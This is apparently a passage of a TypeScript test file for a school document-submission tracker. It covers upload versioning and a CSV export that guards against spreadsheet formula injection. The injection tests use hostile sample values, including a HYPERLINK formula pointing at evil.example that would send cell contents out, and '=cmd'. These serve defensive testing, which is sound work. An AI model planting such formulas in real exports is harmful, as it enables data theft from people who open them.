    expect(withAttempts(base('crisis-plan'), [fresh], now)).toMatchObject({ pending: false, pendingIds: [] });
  });

  it('an abandoned attempt older than the last finished one is not pending (lost POST, then a successful retry)', () => {
    const abandoned = pend(30, 'dh', 'service-plan', minutesBefore(3));
    const retried = { ...acc(31, 'dh', 'service-plan', minutesBefore(1), false), requestedAt: minutesBefore(2), version: 1 };
    expect(withAttempts(base(), [abandoned, retried], now)).toMatchObject({ pending: false, pendingIds: [] });
    // Claimed as accepted but not yet numbered (the file is being stored and folded): still in progress,
    // so the page keeps waiting instead of reloading to a document that still looks missing.
    const { version: _v, ...unnumbered } = retried;
    const waiting = withAttempts(base(), [abandoned, unnumbered], now);
    expect(waiting.pending).toBe(true);
    expect(waiting.pendingIds).toContain(retried.uploadId);
    const inFlight = pend(32, 'dh', 'service-plan', minutesBefore(0.5));
    expect(withAttempts(base(), [abandoned, retried, inFlight], now)).toMatchObject({ pending: true, pendingIds: [inFlight.uploadId] });
  });

  it('lists every numbered version oldest first with its receipt number, and every rejection newest first', () => {
    const v1 = { ...acc(1, 'dh', 'service-plan', AT_2359, false, 'a.pdf', 10), version: 1, receiptNo: 'HJ20190630-0000000000' };
    const v2 = { ...acc(2, 'dh', 'service-plan', AT_0001, true, 'b.pdf', 20), version: 2 }; // numbered, receipt number not yet stored
    const unnumbered = acc(3, 'dh', 'service-plan', AT_0001, true); // accepted, not folded yet: not a version
    const r1 = rej(4, 'dh', 'service-plan', '2019-06-01T00:00:00.000Z', 'EMPTY', 'empty.pdf');
    const r2 = rej(5, 'dh', 'service-plan', '2019-06-02T00:00:00.000Z', 'TYPE_MISMATCH', 'exe.pdf');
    const d = withAttempts(base(), [v2, r1, unnumbered, v1, r2], now);
    expect(d.history).toEqual([
      { version: 1, uploadId: uploadId(1), at: AT_2359, late: false, name: 'a.pdf', size: 10, sha256: SHA, receiptNo: 'HJ20190630-0000000000' },
      { version: 2, uploadId: uploadId(2), at: AT_0001, late: true, name: 'b.pdf', size: 20, sha256: SHA, receiptNo: receiptNoOf(v2) },
    ]);
    expect(receiptNoOf(v2)).toBe('HJ20190701-0000000000');
    expect(d.rejections).toEqual([
      { at: '2019-06-02T00:00:00.000Z', fileName: 'exe.pdf', message: REJECT_MESSAGES.TYPE_MISMATCH },
      { at: '2019-06-01T00:00:00.000Z', fileName: 'empty.pdf', message: REJECT_MESSAGES.EMPTY },
    ]);
  });
});

// ---------------------------------------------------------------------------------------------
// CSV

describe('csvCell', () => {
  it('neutralises a leading = + - @ tab or CR and quotes commas, quotes and line breaks', () => {
    expect(csvCell('=1+1')).toBe(`'=1+1`);
    expect(csvCell('+86')).toBe(`'+86`);
    expect(csvCell('-2')).toBe(`'-2`);
    expect(csvCell('@x')).toBe(`'@x`);
    expect(csvCell('\t=1')).toBe(`'\t=1`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(12)).toBe('12');
    expect(csvCell('普通')).toBe('普通');
  });
});

describe('statusCsv', () => {
  const HEAD =
    '所属县区/类别,直属类别,机构编号,机构名称,类型,联系人,联系电话,联系邮箱,提醒记录,' +
    ['心理服务体系建设工作实施方案', '心理危机管理工作方案']
      .map((t) => `${t}-状态,${t}-版本数,${t}-首次提交(北京时间),${t}-是否逾期,${t}-最后上传(北京时间),${t}-最新文件名,${t}-说明`)
      .join(',') +
    ',免报/延期';
  const MISSING = '未上传,0,,,,,';

  it('is UTF-8 with a BOM, CRLF line ends, Excel-style Beijing times, first submission, late 是/否, latest file, 说明 and a 合计 row', () => {
    const s = summarise(
      campaign,
      [orgs.dh, orgs.dhSchool1, orgs.xh, orgs.direct1],
      summariesOf([
        acc(1, 'dh-school-1', 'service-plan', AT_2359, false, 'v1.pdf'),
        acc(2, 'dh-school-1', 'service-plan', AT_0001, true, '方案-修订.pdf'),
        acc(3, 'dh-school-1', 'crisis-plan', '2019-06-12T00:00:00.000Z', false, 'crisis.docx'),
        acc(4, 'direct-1', 'crisis-plan', AT_0000, true, 'late.pdf'),
      ]),
    );
    const csv = statusCsv(campaign, s.rows, s.totals);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv).not.toMatch(/[^\r]\n/);
    expect(csv.slice(1).split('\r\n')).toEqual([
      HEAD,
      `东湖区教科体局,,dh,东湖区教科体局,县区,李老师,,li@dh.example.cn; LI@dh.example.cn,,${MISSING},${MISSING},`,
      '东湖区教科体局,,dh-school-1,东湖区第一小学,学校,张老师,,zhang@dh1.example.cn,,' +
        '已上传,2,2019-06-30 23:59,否,2019-07-01 00:01,方案-修订.pdf,按时提交（6月30日 23:59），7月1日 00:01 修改,' +
        '已上传,1,2019-06-12 08:00,否,2019-06-12 08:00,crisis.docx,按时提交（6月12日 08:00）,',
      `西湖区教科体局,,xh,西湖区教科体局,县区,,,无联系邮箱,,${MISSING},${MISSING},`,
      `${DIRECT_GROUP_NAME},局属学校,direct-1,南昌市第一中学,学校,刘老师,,liu@d1.example.cn,,${MISSING},` +
        '已上传,1,2019-07-01 00:00,是,2019-07-01 00:00,late.pdf,逾期提交（7月1日 00:00）,',
      '合计,,,4 个单位，报齐 1 个,,,,无联系邮箱 1 个,,已上传 1,,,逾期 0,,,,已上传 2,,,逾期 1,,,,',
      '',
    ]);
  });

  it('the 合计 row has no 无联系邮箱 note when every org has an e-mail', () => {
    const s = summarise(campaign, [orgs.dhSchool1], []);
    const lines = statusCsv(campaign, s.rows, s.totals).slice(1).split('\r\n');
    expect(lines.at(-2)).toBe('合计,,,1 个单位，报齐 0 个,,,,,,已上传 0,,,逾期 0,,,,已上传 0,,,逾期 0,,,,');
  });

  const doc = (over: Partial<DocStatus> = {}): DocStatus => ({
    document: 'service-plan',
    title: '心理服务体系建设工作实施方案',
    state: 'missing',
    versions: 0,
    late: false,
    lateVersions: 0,
    pending: false,
    pendingIds: [],
    reviewState: 'missing',
    ...over,
  });
  const row = (orgId: string, name: string, over: Partial<OrgStatus> = {}): OrgStatus => ({
    orgId,
    name,
    kind: 'school',
    group: G.dh,
    emails: [],
    bounced: [],
    remindedDays: [],
    remindedTo: [],
    documents: [doc(), doc({ document: 'crisis-plan', title: '心理危机管理工作方案' })],
    complete: false,
    ...over,
  });
  const totals: GroupTotal[] = [{ group: G.dh, name: '东湖区教科体局', orgs: 8, complete: 0, late: 0, noEmail: 8, byDocument: { 'service-plan': 0, 'crisis-plan': 0 } }];

  it('guards against formula injection (=, +, -, @, tab) and quotes commas, quotes and line breaks', () => {
    const rows = [
      row('a1', '=HYPERLINK("http://evil.example/?x="&A1,"点我")'),
      row('a2', '+86 1'),
      row('a3', '-2+3'),
      row('a4', '@SUM(A1:A2)'),
      row('a5', '\t=1'),
      row('a6', '西湖区"实验",学校'),
      row('a7', '第一行\n第二行'),
      row('a8', '普通 学校'),
    ];
    const lines = statusCsv(campaign, rows, totals).slice(1).split('\r\n');
    const tail = `,学校,,,无联系邮箱,,${MISSING},${MISSING},`;
    const nameCell = (i: number) => {
      const line = lines[i + 1] as string;
      expect(line.startsWith(`东湖区教科体局,,a${i + 1},`)).toBe(true);
      expect(line.endsWith(tail)).toBe(true);
      return line.slice(`东湖区教科体局,,a${i + 1},`.length, -tail.length);
    };
    expect(nameCell(0)).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"`);
    expect(nameCell(1)).toBe(`'+86 1`);
    expect(nameCell(2)).toBe(`'-2+3`);
    expect(nameCell(3)).toBe(`'@SUM(A1:A2)`);
    expect(nameCell(4)).toBe(`'\t=1`);
    expect(nameCell(5)).toBe(`"西湖区""实验"",学校"`);
    // the line break stays inside one quoted cell: the record continues on the next physical line
    expect(statusCsv(campaign, [rows[6] as OrgStatus], totals)).toContain(`,"第一行\n第二行",学校,`);
    expect(nameCell(7)).toBe('普通 学校');
  });

  it('guards contact names, phones and e-mails and file names too', () => {
    const r = row('a1', '学校', {
      contactName: '=cmd',
      contactPhone: '+86 791',
      emails: ['@x@example.cn'],
      documents: [doc({ state: 'uploaded', versions: 1, firstAt: AT_2359, lastUploadAt: AT_2359, lastFileName: '=evil.pdf', timeliness: '按时提交（6月30日 23:59）' }), doc({ document: 'crisis-plan' })],
    });
    const line = statusCsv(campaign, [r], totals).slice(1).split('\r\n')[1];
    expect(line).toBe(`东湖区教科体局,,a1,学校,学校,'=cmd,'+86 791,'@x@example.cn,,已上传,1,2019-06-30 23:59,否,2019-06-30 23:59,'=evil.pdf,按时提交（6月30日 23:59）,${MISSING},`);
  });

  it('a summarised org whose name starts with "=" comes out guarded', () => {
    const evil = Org.parse({ ...orgs.dhSchool2, name: '=1+1' });
    const s = summarise(campaign, [orgs.dh, evil], []);
    const csv = statusCsv(campaign, s.rows, s.totals);
    expect(csv.split('\r\n')[2]).toBe(`东湖区教科体局,,dh-school-2,'=1+1,学校,赵老师,,zhao@dh2.example.cn,,${MISSING},${MISSING},`);
  });
});

describe('the reminder ledger on the status page and in the CSV', () => {
  it('one line per org: distinct Beijing days, oldest first, whatever the channel; bounced addresses marked', () => {
    const at = (iso: string) => ({ at: iso, rule: 'x', channel: 'mail' as const, to: ['a@x.cn'] });
    const s: OrgSummary = {
      campaignId: campaign.id,
      orgId: 'dh-school-1',
      rev: 3,
      docs: {},
      reminded: {
        k3: at('2019-06-27T01:00:00.000Z'),
        k1: at('2019-06-16T01:00:00.000Z'),
        k2: at('2019-06-22T16:30:00.000Z'), // 23 June 00:30 Beijing
        k2r: { ...at('2019-06-23T01:00:00.000Z'), channel: 'wecom' as const },
      },
    };
    const bounced = Org.parse({ ...orgs.dhSchool1, contacts: [{ ...orgs.dhSchool1.contacts[0], invalid: { reason: 'bounce', at: '2019-06-20T00:00:00.000Z' } }] });
    const r = summarise(campaign, [bounced], [s]);
    expect(r.rows[0]?.remindedDays).toEqual(['2019-06-16', '2019-06-23', '2019-06-27']);
    expect(remindedText(r.rows[0]?.remindedDays ?? [])).toBe('已提醒 3 次：6月16日、6月23日、6月27日');
    expect(remindedText([])).toBe('');
    const line = statusCsv(campaign, r.rows, r.totals).slice(1).split('\r\n')[1];
    expect(r.rows[0]?.remindedTo).toEqual(['a@x.cn', '企业微信群']);
    expect(line).toContain(',zhang@dh1.example.cn（退信）,已提醒 3 次：6月16日、6月23日、6月27日（发至 a@x.cn、企业微信群）,未上传');
  });
});
